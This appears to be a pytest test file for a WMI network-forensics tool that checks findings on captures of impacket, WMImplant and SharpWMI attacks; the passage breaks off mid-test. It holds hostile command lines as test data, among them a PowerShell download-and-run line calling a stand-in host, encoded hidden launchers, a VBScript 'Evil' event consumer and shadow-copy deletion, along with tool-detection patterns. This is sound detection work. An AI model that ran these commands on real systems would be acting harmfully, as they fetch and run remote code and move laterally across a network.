"""The forensics report: for every real capture and every sample, the findings an analyst
writes by hand (technique, hosts, principal, decisive value, frames, observed/inferred),
and the report gives exactly those: none missed, none invented."""

from __future__ import annotations

import json

import pytest

import tshark_util
from tshark_util import CAPTURES, PCAPS
from wmiscope.cli import main

SECRETS = tshark_util.sample_secrets()


def report(capsys, *argv) -> dict:
    assert main(["report", "--format", "json", *map(str, argv)]) == 0
    return json.loads(capsys.readouterr().out)


# capture -> findings in time order:
#   (rule, techniques, basis, source ip, destination ip, principal (substring), decisive value (substring
#    of the title or command line), evidence frames that must be among the finding's frames)
WMIEXEC = ("impacket wmiexec", "10.1.1.2", "10.1.1.5", "administrator")
EXPECTED = {
    CAPTURES / "impacket_wmiexec.pcapng": [
        ("namespace-login", ["T1047"], "observed", "10.1.1.2", "10.1.1.5", "administrator", "//./root/cimv2",
         [32, 33]),
        ("process-create", ["T1047"], "observed", *WMIEXEC[1:], r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$",
         [69, 71]),
        ("process-create", ["T1047"], "observed", *WMIEXEC[1:], r"cmd.exe /Q /c cd  1> \\127.0.0.1\ADMIN$",
         [91, 93]),
        ("process-create", ["T1047"], "observed", *WMIEXEC[1:],
         r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1683291962.56 2>&1", [115, 117]),
    ],
    CAPTURES / "invoke-wmiexec.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.62", "192.168.1.46", "chewbacca",
         r"\\Chip_Douglas-PC\root\cimv2", [80]),
        ("process-create", ["T1047"], "observed", "192.168.1.62", "192.168.1.46", "chewbacca", "ipconfig",
         [129, 131]),
    ],
    CAPTURES / "wmiexecpro-create-start-service.pcap": [
        ("namespace-login", ["T1047"], "observed", "10.0.0.217", "10.0.0.2", "chewbacca", "//./root/cimv2",
         [27, 162]),
        ("service-create", ["T1543.003"], "observed", "10.0.0.217", "10.0.0.2", "chewbacca",
         r"C:\windows\system32\calc.exe", [114, 117]),
        ("service-startservice", ["T1569.002"], "observed", "10.0.0.217", "10.0.0.2", "chewbacca",
         "Service test started", [254, 257]),
    ],
    CAPTURES / "wmimplant.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         r"\\192.168.1.195\root\cimv2 (x3)", [190, 233, 276]),
        ("environment-staging", ["T1074.001", "T1059.001"], "observed", "192.168.1.46", "192.168.1.195",
         "host/SnickleFritz", "Environment variable puFHs written", [203, 215]),
        ("sealed-method-exec", ["T1047"], "inferred", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         "Win32_Process.Create-shaped", [253, 261, 263]),
        ("environment-staging", ["T1074.001"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         "SELECT * FROM Win32_Environment WHERE NAME='puFHs'", [284]),
        ("cleanup", ["T1070"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         'Win32_Environment.Name="puFHs"', [315]),
        ("namespace-login", ["T1047"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         r"\\192.168.1.195\root\default (x3)", [335, 409, 726]),
        ("registry-read", ["T1012"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows [IhnRg]", [375, 376]),
        ("registry-read", ["T1012", "T1041"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         "867596 characters: data channel", [447, 668]),
        ("registry-write", ["T1112"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
         "Registry deleted through StdRegProv.DeleteValue", [761, 762]),
    ],
    CAPTURES / "LM_WMI_ProcessCallCreate.pcapng": [
        ("namespace-login", ["T1047"], "observed", "172.16.66.1", "172.16.66.36", r"3B\lgreen",
         r"\\172.16.66.36\ROOT\CIMV2", [45, 46]),
        ("sealed-method-exec", ["T1047"], "inferred", "172.16.66.1", "172.16.66.36", r"3B\lgreen",
         "Win32_Process.Create-shaped", [52, 120, 126, 128]),
    ],
    CAPTURES / "covenant_sharpwmi_dcerpc_wmi_execquery_execmethod.cap": [
        ("namespace-login", ["T1047"], "observed", "172.18.39.5", "172.18.39.6", "host/WORKSTATION6",
         r"\\WORKSTATION6\root\cimv2", [91]),
        # Issue 10b: the README says SharpWMI ran a sealed ExecQuery (frame 101) whose smart
        # enumerator's Next (frames 121-126) brought back 9148 bytes: a low-confidence lead of
        # reconnaissance or collection, with the ExecQuery and both Next calls as evidence.
        ("sealed-query", ["T1047"], "inferred", "172.18.39.5", "172.18.39.6", "host/WORKSTATION6",
         "sealed ExecQuery on \\\\WORKSTATION6\\root\\cimv2, 9148 bytes returned", [101, 102, 126, 142, 143]),
        ("sealed-method-exec", ["T1047"], "inferred", "172.18.39.5", "172.18.39.6", "host/WORKSTATION6",
         "Likely remote method execution", [129, 138, 141]),
    ],
    CAPTURES / "dcom_mmc20_application.pcapng": [],
    CAPTURES / "impacket_dcomexec.pcapng": [],
    PCAPS / "wmi-process-create.pcap": [
        ("namespace-login", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", "", r"\\SRV-FILES01\root\cimv2",
         [6]),
        ("process-create", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", "",
         r"cmd.exe /c whoami > C:\Windows\Temp\o.txt", [14, 15]),
    ],
    PCAPS / "wmi-process-create-ntlm-signed.pcap": [
        ("namespace-login", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
         r"\\SRV-FILES01\root\cimv2", [7]),
        ("process-create", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
         r"cmd.exe /c whoami > C:\Windows\Temp\o.txt", [15, 16]),
    ],
    PCAPS / "wmi-process-create-ntlm-sealed.pcap": [
        ("namespace-login", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
         "namespace sealed", [7]),
        ("sealed-method-exec", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
         "Likely remote method execution on a sealed namespace", [11, 15, 16]),
    ],
    PCAPS / "wmi-process-create-kerberos-sealed.pcap": [
        ("namespace-login", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", "host/srv-files01",
         "namespace sealed", [8]),
        ("sealed-method-exec", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", "host/srv-files01",
         "Likely remote method execution", [12, 16, 17]),
    ],
    PCAPS / "wmi-persistence-subscription.pcap": [
        ("namespace-login", ["T1047"], "observed", "10.8.0.77", "10.8.0.2", "", r"\\DC01\root\subscription",
         [26]),
        ("event-subscription", ["T1546.003"], "observed", "10.8.0.77", "10.8.0.2", "",
         r"SysUpdateFilter -> SysUpdateConsumer runs cmd.exe /c echo wmi-persistence-test", [32, 36, 40]),
    ],
    PCAPS / "wmi-semisync-execmethod.pcap": [
        ("namespace-login", ["T1047"], "observed", "172.20.4.31", "172.20.4.10", "", r"\\FILESRV01\root\cimv2",
         [26]),
        ("process-create", ["T1047"], "observed", "172.20.4.31", "172.20.4.10", "",
         r"notepad.exe C:\Users\Public\readme.txt", [30, 36, 37]),
    ],
    PCAPS / "wmi-async-query-callbacks.pcap": [
        ("namespace-login", ["T1047"], "observed", "10.40.8.21", "10.40.8.5", "", r"\\SRV-DC02\root\cimv2", [26]),
        ("recon-query", ["T1057"], "observed", "10.40.8.21", "10.40.8.5", "",
         "SELECT * FROM Win32_Process WHERE Name LIKE 'power%'", [30, 47, 52]),
    ],
    PCAPS / "wmi-refresher.pcap": [
        ("namespace-login", ["T1047"], "observed", "172.20.4.31", "172.20.4.10", "", r"\\FILESRV01\root\cimv2",
         [26]),
    ],
    PCAPS / "spec-4.1.1-initialization.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", r"\\sai-nav009-2\root\cimv2",
         [26]),
    ],
    PCAPS / "spec-4.2.3.1-sync-execquery-execmethod.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "root\\cimv2", [26]),
        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "",
         "select * from win32_process where Name='calc.exe'", [30]),
        ("method-exec", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "",
         'Win32_Process.Terminate on Handle="724"', [50, 51]),
        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "", "win32_process", [52]),
    ],
    PCAPS / "spec-4.3.3.1-semisync-execquery-execmethod.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "root\\cimv2", [26]),
        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "", "win32_process", [30]),
        ("method-exec", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "",
         'Win32_Process.Terminate on Handle="2680"', [50, 56, 57]),
        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "", "win32_process", [58]),
    ],
    PCAPS / "spec-4.2.3.2-sync-put-delete-enum.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", r"root\cimv2\MyTest", [26]),
        ("instance-write", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI (x=10, y=15)", [30]),
        ("instance-write", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI (x=10, y=20)", [44]),
        ("instance-delete", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI.x=10", [46]),
    ],
    PCAPS / "spec-4.3.3.2-semisync-put-delete-enum.pcap": [
        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", r"root\cimv2\MyTest", [26]),
        ("instance-write", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI (x=10, y=15)",
         [30, 34]),
        ("instance-delete", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI.x=10", [50, 52]),
    ],
}


def _check(findings: list[dict], expected: list[tuple]) -> None:
    got = [(f["rule"], [t["id"] for t in f["techniques"]], f["basis"]) for f in findings]
    assert got == [(e[0], e[1], e[2]) for e in expected]
    for f, (_, _, _, src, dst, who, value, frames) in zip(findings, expected):
        assert (f["source"]["ip"], f["destination"]["ip"]) == (src, dst)
        assert who in ((f["principal"] or {}).get("text") or ""), f
        assert value in f["title"] + " " + (f["command_line"] or ""), f["title"]
        assert set(frames) <= set(f["frames"]), (f["frames"], frames)
        assert f["first_time"] <= f["last_time"]
        assert f["reasons"] and 0 < f["confidence"] <= 1
        assert (f["confidence"] == 1.0) == (f["basis"] == "observed")


@pytest.mark.parametrize("path", list(EXPECTED), ids=lambda p: p.name)
def test_findings_are_exactly_what_an_analyst_writes(capsys, path):
    r = report(capsys, path)
    _check(r["findings"], EXPECTED[path])
    assert [f["id"] for f in r["findings"]] == [f"F{i:03d}" for i in range(1, len(r["findings"]) + 1)]


def test_decisive_values_of_the_real_captures(capsys):
    r = report(capsys, CAPTURES / "impacket_wmiexec.pcapng")
    f = r["findings"][3]
    assert f["tool"]["name"] == "impacket wmiexec" and "ADMIN$" in f["tool"]["evidence"]
    assert f["wmi"]["process_id"] == 2692 and f["outcome"] == "success"
    assert f["destination"]["names"] == ["WIN-KCBVCO95HFV"]
    assert f["namespace"] == "//./root/cimv2" and f["operation"] == "op-5"

    r = report(capsys, CAPTURES / "invoke-wmiexec.pcap")
    f = r["findings"][1]
    assert f["tool"]["name"] == "Invoke-WMIExec" and f["client_machine"] == "SNICKLEFRITZ" and f["client_pid"] == 4888
    assert f["source"]["names"] == ["SNICKLEFRITZ"]

    r = report(capsys, CAPTURES / "wmiexecpro-create-start-service.pcap")
    create, start = r["findings"][1:]
    assert create["wmi"]["service"] == {"name": "test", "display_name": "For test",
                                        "path": r"C:\windows\system32\calc.exe", "start_mode": "Automatic",
                                        "start_name": "LocalSystem"}
    assert create["tool"]["name"] == "wmiexec-pro" and "LoadOrderGroup 'System'" in create["tool"]["evidence"]
    # calc.exe is no service: StartService answers 7, the request timed out
    assert (start["outcome"], start["wmi"]["return_value"], start["wmi"]["return_text"]) == (
        "failure", 7, "Service Request Timeout")

    r = report(capsys, CAPTURES / "wmimplant.pcap")
    staging, sealed = r["findings"][1:3]
    assert staging["decoded_command"].startswith("$fct = Get-Content -Encoding byte -ReadCount 0 -Path "
                                                 "'C:\\shimcache.reg'")
    assert staging["wmi"]["result_path"] == r'Win32_Environment.Name="puFHs",UserName="picklesworth\\administrator"'
    assert sealed["confidence"] == 0.9 and any("20664 bytes" in x for x in sealed["reasons"])
    read = r["findings"][7]
    assert read["registry"]["data_size"] == 867596 and read["outcome"] == "success"

    r = report(capsys, CAPTURES / "LM_WMI_ProcessCallCreate.pcapng")
    login, sealed = r["findings"]
    assert login["client_machine"] == "02694W-WIN10" and login["client_pid"] == 3836
    assert "01566s-win16-ir" in login["destination"]["names"]
    assert sealed["namespace"] == r"\\172.16.66.36\ROOT\CIMV2" and sealed["wmi"]["reply_stub"] == 1160
    (conn,) = r["sealed_connections"]
    assert conn["principal"] == r"3B\lgreen" and "NT hash of 3B\\lgreen" in conn["key"]
    assert conn["sequence"] == ["GetObject (148/79068 bytes)", "ExecMethod (5360/1160 bytes)"]


def test_covenant_sealed_connection_lists_its_calls_and_the_key(capsys):
    r = report(capsys, CAPTURES / "covenant_sharpwmi_dcerpc_wmi_execquery_execmethod.cap")
    (conn,) = r["sealed_connections"]
    assert conn["login"]["client_machine"] == "WORKSTATION5" and conn["login"]["client_pid"] == 7240
    assert conn["sequence"][0] == "ExecQuery (248/192 bytes)" and "ExecMethod (1016/424 bytes)" in conn["sequence"]
    assert "service host/WORKSTATION6.theshire.local@THESHIRE.LOCAL" in conn["key"]
    query = r["findings"][1]
    assert (query["confidence"], query["severity"], query["wmi"]["next_replies"]) == (0.5, "low", [9148, 24])
    assert any("low-confidence lead" in x for x in query["reasons"])
    assert r["summary"]["errors"] == 1      # the file ends inside a record header: counted, report still made


def test_sealed_samples_with_their_keys_are_observed(capsys):
    creds = SECRETS["wmi-sealed-samples.credentials"]
    keytab = SECRETS["wmi-process-create-kerberos.keytab"]
    for name in ("ntlm", "kerberos"):
        r = report(capsys, PCAPS / f"wmi-process-create-{name}-sealed.pcap", "--credentials", creds,
                   "--keytab", keytab)
        assert [(f["rule"], f["basis"]) for f in r["findings"]] == [("namespace-login", "observed"),
                                                                     ("process-create", "observed")]
        assert r["findings"][1]["command_line"] == r"cmd.exe /c whoami > C:\Windows\Temp\o.txt"
        assert "decrypted with the analyst's credentials" in r["findings"][1]["reasons"]
        assert r["sealed_connections"][0]["opened"] is True


def test_several_captures_make_one_report(capsys):
    r = report(capsys, CAPTURES / "impacket_wmiexec.pcapng", CAPTURES / "invoke-wmiexec.pcap")
    # one analysis of the capture set (issue 10b): one capture entry naming both files
    (cap,) = r["captures"]
    assert cap["files"] == ["impacket_wmiexec.pcapng", "invoke-wmiexec.pcap"] and len(r["findings"]) == 6
    times = [f["first_time"] for f in r["findings"]]
    assert times == sorted(times)
    assert {h["ip"] for h in r["hosts"]} == {"10.1.1.2", "10.1.1.5", "192.168.1.62", "192.168.1.46"}


def test_no_wmi_is_said_plainly(capsys):
    assert main(["report", str(CAPTURES / "impacket_dcomexec.pcapng")]) == 0
    out = capsys.readouterr()
    assert out.out == "" and "no WMI traffic in the capture(s): no findings" in out.err
    r = report(capsys, CAPTURES / "dcom_mmc20_application.pcapng")
    assert r["summary"]["no_wmi"] is True and r["findings"] == [] and r["summary"]["errors"] > 0


def test_truncated_capture_still_reports(capsys, tmp_path):
    data = (CAPTURES / "impacket_wmiexec.pcapng").read_bytes()
    cut = tmp_path / "cut.pcapng"
    cut.write_bytes(data[: len(data) * 3 // 4])
    r = report(capsys, cut)
    assert r["summary"]["errors"] >= 1 and [f["rule"] for f in r["findings"]][:2] == ["namespace-login",
                                                                                       "process-create"]


def test_encoded_powershell_is_decoded():
    from wmiscope.report.values import decode_powershell
    import base64

    script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
    enc = base64.b64encode(script.encode("utf-16-le")).decode()
    assert decode_powershell(f"powershell.exe -nop -w hidden -enc {enc}") == script
    assert decode_powershell("cmd.exe /c whoami") is None


SCHEMA = json.loads((tshark_util.ROOT / "docs" / "report-finding.schema.json").read_text())


@pytest.mark.parametrize("path", [CAPTURES / "wmimplant.pcap", CAPTURES / "wmiexecpro-create-start-service.pcap",
                                  CAPTURES / "LM_WMI_ProcessCallCreate.pcapng", CAPTURES / "impacket_wmiexec.pcapng",
                                  PCAPS / "wmi-persistence-subscription.pcap",
                                  PCAPS / "spec-4.2.3.2-sync-put-delete-enum.pcap"], ids=lambda p: p.name)
def test_jsonl_lines_are_ecs_documents_valid_against_the_schema(capsys, path):
    import jsonschema

    assert main(["report", str(path), "--format", "jsonl"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines
    validator = jsonschema.Draft202012Validator(SCHEMA)
    for line in lines:
        doc = json.loads(line)
        errors = sorted(validator.iter_errors(doc), key=str)
        assert not errors, f"{doc['event']['id']}: {errors[0].message} at {list(errors[0].absolute_path)}"
        assert doc["@timestamp"] == doc["event"]["start"] and doc["wmi"]["frames"]
    first = json.loads(lines[0])
    assert first["event"]["action"] == "namespace-login" and first["threat"]["technique"]["id"] == ["T1047"]


def test_schema_rejects_what_a_siem_could_not_ingest():
    import jsonschema

    doc = {"@timestamp": "yesterday"}
    assert list(jsonschema.Draft202012Validator(SCHEMA).iter_errors(doc))


def test_jsonl_principal_and_command_line_in_ecs_fields(capsys):
    assert main(["report", str(CAPTURES / "invoke-wmiexec.pcap")]) == 0
    login, create = (json.loads(x) for x in capsys.readouterr().out.splitlines())
    assert create["user"] == {"name": "chewbacca"} and create["process"] == {"command_line": "ipconfig", "pid": 3556}
    assert (create["source"]["ip"], create["destination"]["ip"]) == ("192.168.1.62", "192.168.1.46")
    assert create["threat"]["tactic"]["name"] == ["Execution"] and create["wmi"]["client_machine"] == "SNICKLEFRITZ"


def test_calls_table_summary_column(capsys):
    def rows(path):
        assert main(["calls", str(path)]) == 0
        out = capsys.readouterr().out.splitlines()
        assert out[0].rstrip().endswith("state      summary")
        return {line.split()[0]: line for line in out[1:] if line.strip() and line.split()[0].isdigit()}

    r = rows(CAPTURES / "invoke-wmiexec.pcap")
    assert r["74"].endswith("SNICKLEFRITZ pid 4888")
    assert r["80"].endswith(r"\\Chip_Douglas-PC\root\cimv2")
    assert r["101"].endswith("win32_process")
    assert r["129"].endswith("Win32_Process.create ipconfig")
    r = rows(PCAPS / "wmi-persistence-subscription.pcap")
    assert "__EventFilter Name=SysUpdateFilter, Query=SELECT * FROM __InstanceModificationEvent" in r["32"]
    assert r["36"].endswith("CommandLineEventConsumer Name=SysUpdateConsumer, CommandLineTemplate=cmd.exe /c echo "
                            r"wmi-persistence-test > C:\Windows\Temp\sysupdate.log, RunInteractively=False")
    r = rows(CAPTURES / "LM_WMI_ProcessCallCreate.pcapng")
    assert r["126"].split()[-1] == "encrypted"      # sealed: nothing to summarise


def test_user_mistakes_get_one_line(capsys, tmp_path):
    junk = tmp_path / "junk.pcap"
    junk.write_bytes(b"\x01" * 64)
    for argv, said in (([str(junk)], "junk.pcap: not a pcap or pcapng file"),
                       ([str(tmp_path / "missing.pcap")], "missing.pcap: No such file or directory"),
                       ([str(PCAPS / "wmi-process-create.pcap"), "-o", str(tmp_path / "no" / "r.html")],
                        "r.html: No such file or directory"),
                       ([], "name CAPTURE files or a live --interface")):
        assert main(["report", *argv]) in (1, 2)       # unreadable input / usage (issue 12's contract)
        out, err = capsys.readouterr()
        assert out == "" and err.startswith("wmiscope: error: ") and said in err and err.count("\n") == 1


def test_progress_only_on_a_terminal():
    import io

    from wmiscope.dissectors.pipeline import Stats
    from wmiscope.commands.progress import Progress

    class Tty(io.StringIO):
        def isatty(self):
            return True

    stats = Stats(frames=1200, calls=14, errors=1)
    pipe, tty = io.StringIO(), Tty()
    Progress(pipe, delay=0)(stats)
    p = Progress(tty, delay=0)
    p.bytes = 2_500_000
    p(stats)
    p.done()
    assert pipe.getvalue() == ""
    assert "1200 frames, 2.5 MB read, 14 calls, 1 errors" in tty.getvalue() and tty.getvalue().endswith("\r\x1b[K")


def test_format_follows_the_output_name(capsys, tmp_path):
    out = tmp_path / "r.html"
    assert main(["report", str(PCAPS / "wmi-process-create.pcap"), "-o", str(out)]) == 0
    assert "wmiscope report: 2 findings, 3 WMI calls ->" in capsys.readouterr().err
    page = out.read_text()
    assert page.startswith("<!DOCTYPE html>") and "<script src" not in page and "<link" not in page
    assert main(["report", str(PCAPS / "wmi-process-create.pcap"), "-o", str(tmp_path / "r.jsonl")]) == 0
    assert len((tmp_path / "r.jsonl").read_text().splitlines()) == 2


# Rules that no capture here exercises, fed call dicts of the `calls --format jsonl` shape.

def _call(method, req=(), resp=(), *, iface="IWbemServices", ret=0, fault=None, frame=10, op=None):
    def side(params, **extra):
        return {"params": [{"name": n, "value": v} if not isinstance(v, dict) or "kind" not in v
                           else {"name": n, "value": None, "object": v} for n, v in params], **extra}

    return {"type": "call", "conn": 1, "call_id": frame, "client": "10.9.9.1:50000", "server": "10.9.9.2:49666",
            "interface": iface, "method": method, "auth": {"principal": "CORP\\mallory", "type_name": "NTLMSSP",
                                                             "level_name": "privacy"},
            "request": {"frames": [frame, frame], "epoch": 1700000000.0 + frame, "stub_len": 100},
            "response": {"frames": [frame + 1, frame + 1], "epoch": 1700000000.5 + frame, "stub_len": 40},
            "fault": fault, "encrypted": False, "decrypted": False, "outcome": "decoded",
            "operation": op or {"id": f"op-{frame}", "kind": method, "namespace": r"\\DC\root\cimv2",
                                "role": "origin"},
            "decoded": {"request": side(req), "response": side(resp, **{"return": {"value": ret}})}}


def _instance(cls, **props):
    return {"kind": "instance", "class": cls, "properties": {k: {"value": v} for k, v in props.items()}}


def _findings(*calls):
    from wmiscope.report.findings import ReportBuilder

    b = ReportBuilder()
    b.start_capture("synthetic")
    for d in calls:
        b.observe(d)
    b.end_capture({"errors": 0})
    return list(b.finish()["findings"])


def test_rules_without_a_sample_capture():
    import base64

    enc = base64.b64encode("Get-Process | Out-File C:\\t.txt".encode("utf-16-le")).decode()
    big = "A" * 5000
    (script, create, delete, reg, ps, denied, fault) = _findings(
        _call("PutInstance", [("pInst", _instance("ActiveScriptEventConsumer", Name="Evil", ScriptingEngine="VBScript",
                                                  ScriptText='CreateObject("WScript.Shell").Run "calc"'))], frame=10),
        _call("ExecMethod", [("strObjectPath", "Win32_ShadowCopy"), ("strMethodName", "Create"),
                             ("pInParams", _instance("__PARAMETERS", Volume="C:\\", Context="ClientAccessible"))],
              [("ppOutParams", _instance("__PARAMETERS", ReturnValue=0, ShadowID="{1}"))], frame=20),
        _call("DeleteInstance", [("strObjectPath", 'Win32_ShadowCopy.ID="{1}"')], frame=30),
        _call("ExecMethod", [("strObjectPath", "StdRegProv"), ("strMethodName", "SetStringValue"),
                             ("pInParams", _instance("__PARAMETERS", hDefKey=0x80000001, sSubKeyName="Software\\X",
                                                     sValueName="blob", sValue=big))], frame=40),
        _call("ExecMethod", [("strObjectPath", "Win32_Process"), ("strMethodName", "Create"),
                             ("pInParams", _instance("__PARAMETERS", CommandLine=f"powershell.exe -nop -enc {enc}"))],
              frame=50),
        _call("NTLMLogin", [("wszNetworkResource", r"\\DC\root\cimv2")], iface="IWbemLevel1Login", ret=0x80041003,
              frame=60),
        _call("GetObject", [("strObjectPath", "Win32_Process")], fault=5, frame=70),
    )
    assert (script["rule"], script["techniques"][0]["id"]) == ("event-subscription", "T1546.003")
    assert script["decoded_command"] == 'CreateObject("WScript.Shell").Run "calc"'
    assert "(no binding seen)" in script["title"]
    assert (create["rule"], create["techniques"][0]["id"], create["outcome"]) == ("shadow-copy-create", "T1003.003",
                                                                                   "success")
    assert (delete["rule"], delete["techniques"][0]["id"]) == ("shadow-copy-delete", "T1490")
    assert [t["id"] for t in reg["techniques"]] == ["T1112", "T1074.001"]
    assert reg["registry"]["path"] == "HKEY_CURRENT_USER\\Software\\X\\blob" and reg["registry"]["data_size"] == 5000
    assert ps["tool"]["name"] == "encoded PowerShell launcher"
    assert ps["decoded_command"] == "Get-Process | Out-File C:\\t.txt"
    assert [t["id"] for t in ps["techniques"]] == ["T1047", "T1059.001"]
    assert denied["outcome"] == "failure" and "refused (HRESULT 0x80041003)" in denied["title"]
    assert (fault["rule"], fault["outcome"]) == ("wmi-failure", "failure")
    assert "denied: DCE/RPC fault 0x00000005" in fault["title"]
    assert {f["principal"]["text"] for f in (script, ps, fault)} == {"CORP\\mallory"}


@pytest.mark.parametrize("query, technique", [
    ("SELECT * FROM AntiVirusProduct", "T1518.001"),
    ("select displayName from FirewallProduct", "T1518.001"),
    ("SELECT * FROM Win32_Service WHERE State='Running'", "T1007"),
    ("SELECT * FROM Win32_LoggedOnUser", "T1033"),
    ("SELECT * FROM Win32_UserAccount WHERE LocalAccount=True", "T1087.001"),
    ("SELECT * FROM Win32_ShadowCopy", "T1082"),
    ("SELECT IPAddress FROM Win32_NetworkAdapterConfiguration WHERE IPEnabled=TRUE", "T1016"),
    ("SELECT * FROM Win32_Share", "T1135"),
    ("SELECT * FROM Win32_QuickFixEngineering", "T1082"),
    ("SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'", "T1057"),
])
def test_recon_queries_map_to_techniques(query, technique):
    (f,) = _findings(_call("ExecQuery", [("strQueryLanguage", "WQL"), ("strQuery", query)]))
    assert (f["rule"], f["techniques"][0]["id"]) == ("recon-query", technique)


def test_an_unremarkable_query_is_no_finding():
    assert _findings(_call("ExecQuery", [("strQuery", "SELECT * FROM Win32_PerfRawData_Tcpip_TCPv4")])) == []


def test_the_same_traffic_in_two_captures_is_found_once(capsys, tmp_path):
    # Issue 10b: the set is one analysis; the TCP reassembler takes the second sensor's copy
    # of each segment as a retransmission, so the findings are those of one copy (no more
    # `also_seen` join), their frames those of the file merged first, named per file.
    import shutil

    import jsonschema

    other = tmp_path / "sensor-b.pcapng"
    shutil.copy(CAPTURES / "impacket_wmiexec.pcapng", other)
    r = report(capsys, CAPTURES / "impacket_wmiexec.pcapng", other)
    assert [f["rule"] for f in r["findings"]] == ["namespace-login"] + ["process-create"] * 3
    whoami = r["findings"][3]
    assert "whoami" in whoami["command_line"] and "also_seen" not in whoami["wmi"]
    assert [e["file"] for e in whoami["evidence"]] == ["impacket_wmiexec.pcapng"]
    assert whoami["evidence"][0]["frames"] == [114, 115, 117]
    assert main(["report", str(CAPTURES / "impacket_wmiexec.pcapng"), str(other)]) == 0
    for line in capsys.readouterr().out.splitlines():
        jsonschema.validate(json.loads(line), SCHEMA)


def test_hostile_captures_still_give_a_report(tmp_path):
    from fuzz_util import mutations
    from wmiscope.dissectors.pipeline import Analysis
    from wmiscope.report.output import analyse_captures

    data = (PCAPS / "wmi-persistence-subscription.pcap").read_bytes()
    head, body = data[:24], data[24:]           # keep the pcap file header: the records are the target
    with_errors = 0
    for i, mutated in enumerate(mutations(body, seed=10, count=15, max_edits=30)):
        path = tmp_path / f"m{i}.pcap"
        path.write_bytes(head + mutated)
        r = analyse_captures(str(path), Analysis, excerpts=True)
        stats = r["captures"][0]["stats"]
        assert r["summary"]["errors"] == stats["errors"] == sum(stats["errors_by_stage"].values())
        with_errors += stats["errors"] > 0
        for f in r["findings"]:
            assert f["frames"] and f["techniques"] and f["id"]
    assert with_errors >= 10        # the mutations did reach the decoders


def test_progress_is_metered_only_where_wanted(monkeypatch):
    import io

    from wmiscope.commands.progress import with_progress
    from wmiscope.dissectors.pipeline import Analysis

    class Tty(io.StringIO):
        def isatty(self):
            return True

    path = str(CAPTURES / "impacket_wmiexec.pcapng")
    assert with_progress(path, Analysis(), streaming=False, stream=io.StringIO()) is path   # a pipe: untouched
    monkeypatch.setattr("sys.stdout", Tty())
    assert with_progress(path, Analysis(), streaming=True, stream=Tty()) is path   # table on the terminal
    analysis, tty = Analysis(), Tty()
    frames = with_progress(path, analysis, streaming=False, stream=tty)
    assert frames is not path
    records = list(analysis.run(frames))
    plain = Analysis()
    assert len(records) == len(list(plain.run(path))) and analysis.stats.as_dict() == plain.stats.as_dict()


@pytest.mark.parametrize("command, tool", [
    (r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1683291962.56 2>&1", "impacket wmiexec"),
    (r"cmd.exe /Q /c  whoami 1> C:\windows\temp\0f8fad5b-d9cb-469f-a165-70867728950e.txt 2>&1 && certutil "
     r"-encodehex -f C:\windows\temp\a.txt C:\windows\temp\b.txt 0x40000001", "NetExec wmi exec"),
    (r"cmd.exe /Q /c ipconfig 1> \Windows\Temp\kQzXwe 2>&1", "CrackMapExec wmiexec"),
    (r"cmd.exe /Q /c ipconfig 1> \\10.0.0.9\CMEshare\kQzXwe 2>&1", "CrackMapExec wmiexec"),
    ("powershell.exe -NoP -sta -NonI -W Hidden -Enc JABzAD0A", "encoded PowerShell launcher"),
    (r"cmd.exe /c whoami > C:\Windows\Temp\o.txt", None),
])
def test_tool_patterns_of_process_creation(command, tool):
    (f,) = _findings(_call("ExecMethod", [("strObjectPath", "Win32_Process"), ("strMethodName", "Create"),
                                          ("pInParams", _instance("__PARAMETERS", CommandLine=command))]))
    assert (f["tool"] or {}).get("name") == tool


def test_tool_patterns_of_event_subscriptions():
    tag = "windows-object-6f1c2b4e-0d3a-4c55-9e61-1a2b3c4d5e6f"
    put = lambda cls, frame, **p: _call("PutInstance", [("pInst", _instance(cls, **p))], frame=frame)  # noqa: E731
    (pro,) = _findings(put("ActiveScriptEventConsumer", 10, Name=tag, ScriptingEngine="VBScript", ScriptText="x"),
